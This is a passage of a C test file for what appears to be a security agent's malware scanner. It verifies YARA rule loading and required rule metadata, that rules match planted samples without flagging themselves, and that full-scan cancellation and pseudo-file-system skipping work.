    int e = 0, n = 0;

    if (yr_initialize() != ERROR_SUCCESS || yr_compiler_create(&comp) != ERROR_SUCCESS) {
        snprintf(err, errlen, "YARA did not start");
        return -ENOMEM;
    }
    d = opendir(dir);
    while (d && (de = readdir(d))) {
        char path[PATH_MAX + 300];
        size_t len = strlen(de->d_name);
        FILE *fp;
        if (len < 5 || strcmp(de->d_name + len - 4, ".yar") != 0)
            continue;
        snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
        if (!(fp = fopen(path, "re")) || yr_compiler_add_file(comp, fp, de->d_name, path) != 0) {
            snprintf(err, errlen, "%.200s does not load or compile", de->d_name);
            e = -EINVAL;
            if (fp)
                fclose(fp);
            goto out;
        }
        fclose(fp);
    }
    if (yr_compiler_get_rules(comp, &rules) != ERROR_SUCCESS) {
        snprintf(err, errlen, "no rules");
        e = -EINVAL;
        goto out;
    }
    yr_rules_foreach(rules, rule)
    {
        const YR_META *m;
        bool desc = false, sev = false, ref = false;
        n++;
        yr_rule_metas_foreach(rule, m)
        {
            if (m->type != META_TYPE_STRING)
                continue;
            desc |= strcmp(m->identifier, "description") == 0 && strlen(m->string) > 20;
            ref |= strcmp(m->identifier, "reference") == 0 && strlen(m->string) > 20;
            sev |= strcmp(m->identifier, "severity") == 0 &&
                   (!strcmp(m->string, "low") || !strcmp(m->string, "medium") || !strcmp(m->string, "high"));
        }
        if (!desc || !sev || !ref || strncmp(rule->identifier, "Yamori_", 7) != 0) {
            snprintf(err, errlen, "rule %s: a Yamori_ name, description, severity and reference are required",
                     rule->identifier);
            e = -EINVAL;
            goto out;
        }
    }
    if (n < 14) {
        snprintf(err, errlen, "only %d rules", n);
        e = -EINVAL;
    }
out:
    if (d)
        closedir(d);
    if (rules)
        yr_rules_destroy(rules);
    if (comp)
        yr_compiler_destroy(comp);
    yr_finalize();
    return e;
}

static void rules_match_their_samples(void)
{
    struct fixture fx = {0};
    struct scan_options o = {.kind = SCAN_CUSTOM, .cpu_budget = -1, .io_priority = SCAN_IO_NORMAL, .no_clamav = true,
                             .dpkg_admindir = "/nonexistent"};
    char dir[PATH_MAX], rules[PATH_MAX], err[512] = "", rel[64];
    json_t *res = NULL, *f;
    size_t i;
    int e;

    CHECK(tmpdir_make(fx.root, sizeof(fx.root), "scan"));
    for (const struct sample *s = samples; s->name; s++) {
        snprintf(rel, sizeof(rel), "samples/%s", s->name);
        e = fx_write(&fx, rel, s->bytes, s->len ? s->len : strlen(s->bytes), 0644);
        if (e) {
            check_fail_(__FILE__, __LINE__, "fixture: %s", strerror(-e));
            goto out;
        }
    }
    /* the rule files themselves: never reported, though they hold every string */
    scan_default_rules_dir(rules, sizeof(rules));
    snprintf(dir, sizeof(dir), "%s/samples", fx.root);
    o.path = dir;
    e = run_scan(&o, &res, err, sizeof(err));
    if (e) {
        check_fail_(__FILE__, __LINE__, "scan: %s", err);
        goto out;
    }
    for (const struct sample *s = samples; s->name; s++) {
        bool hit = false;
        snprintf(rel, sizeof(rel), "samples/%s", s->name);
        json_array_foreach(json_object_get(res, "findings"), i, f)
        {
            char path[PATH_MAX];
            snprintf(path, sizeof(path), "%s/%s", fx.root, rel);
            if (strcmp(fstr(f, "path"), path) == 0 && strcmp(fstr(f, "rule"), s->rule) == 0)
                hit = true;
        }
        if (!hit) {
            check_fail_(__FILE__, __LINE__, "%s does not match %s", s->name, s->rule);
            goto out;
        }
    }
    /* every rule has description, severity (low|medium|high) and reference */
    if ((e = check_metas(rules, err, sizeof(err))) != 0) {
        check_fail_(__FILE__, __LINE__, "rule meta: %s", err);
        goto out;
    }
    /* the rule files hold every string, but a scan never flags them */
    {
        json_t *r2 = NULL;
        o.path = rules;
        e = run_scan(&o, &r2, err, sizeof(err));
        if (e || json_array_size(json_object_get(r2, "findings")) != 0) {
            check_fail_(__FILE__, __LINE__, "the rule set flags itself: %s",
                        e ? err : fstr(json_array_get(json_object_get(r2, "findings"), 0), "path"));
            json_decref(r2);
            goto out;
        }
        json_decref(r2);
    }
out:
    json_decref(res);
    fx_destroy(&fx);
}

/* A full scan starts from the used bytes of the local file systems and is
 * cancelled after 300 files (a whole machine is bench/scan's business). */
struct full_watch {
    struct run r;
    uint64_t total_bytes;
    bool pseudo_seen;
};

static void on_full_progress(void *ctx, const struct scan_progress *p)
{
    struct full_watch *fw = ctx;
    if (p->current && (strncmp(p->current, "/proc/", 6) == 0 || strncmp(p->current, "/sys/", 5) == 0))
        fw->pseudo_seen = true;
    fw->total_bytes = p->total_bytes;
    on_progress(&fw->r, p);
}

static void full_scan_starts(void)
{
    struct full_watch fw = {0};
    struct scan_options o = {.kind = SCAN_FULL, .cpu_budget = -1, .io_priority = SCAN_IO_NORMAL, .no_clamav = true,
                             .progress = on_full_progress, .progress_ctx = &fw};
    char err[512] = "";
    json_t *res = NULL;
    int e;

    fw.r.monotonic = true;
    fw.r.cancel_after_files = 300;
    o.cancel = &fw.r.cancel;
    e = run_scan(&o, &res, err, sizeof(err));
    CHECK_MSG(e == 0, "full scan: %s", err);
    if (strcmp(fstr(res, "kind"), "full") || strcmp(fstr(res, "path"), "/") ||
        !json_is_true(json_object_get(res, "cancelled")) || fw.total_bytes == 0 || fw.pseudo_seen ||
        !fw.r.monotonic || jint(res, "files_scanned", NULL) != 300) {
        check_fail_(__FILE__, __LINE__, "full scan: kind %s, cancelled %d, estimate %llu bytes, pseudo %d, files %lld",
                    fstr(res, "kind"), json_is_true(json_object_get(res, "cancelled")),
                    (unsigned long long)fw.total_bytes, fw.pseudo_seen, (long long)jint(res, "files_scanned", NULL));
    }
    json_decref(res);
}

static void fs_types(void)
{
    CHECK(scan_fs_is_skipped(0x9fa0));      /* proc */
    CHECK(scan_fs_is_skipped(0x62656572));  /* sysfs */
    CHECK(scan_fs_is_skipped(0x6969));      /* NFS */
    CHECK(!scan_fs_is_skipped(0x01021994)); /* tmpfs */
    CHECK(!scan_fs_is_skipped(0xef53));     /* ext4 */
    enum scan_kind k;
    CHECK(scan_kind_parse("full", &k) == 0 && k == SCAN_FULL);
    CHECK(scan_kind_parse("everything", &k) == -EINVAL);
}

int main(int argc, char **argv)
{
    static const struct check_case cases[] = {
        {"planted_samples_found", planted_samples_found},
        {"too_large_still_hashed", too_large_still_hashed},
        {"cancel_stops", cancel_stops},
        {"cancel_from_another_thread", cancel_from_another_thread},
        {"throttle_holds_budget", throttle_holds_budget},
        {"bad_input_refused", bad_input_refused},
        {"clamav_signature", clamav_signature},
        {"quick_scan_sees_tmp", quick_scan_sees_tmp},
        {"command_handler", command_handler},
        {"full_scan_starts", full_scan_starts},
        {"rules_match_their_samples", rules_match_their_samples},
        {"pseudo_fs_not_entered", pseudo_fs_not_entered},
        {"fs_types", fs_types},
        {NULL, NULL},
    };
    return check_main("agent/test_scan", cases, argc, argv);
}
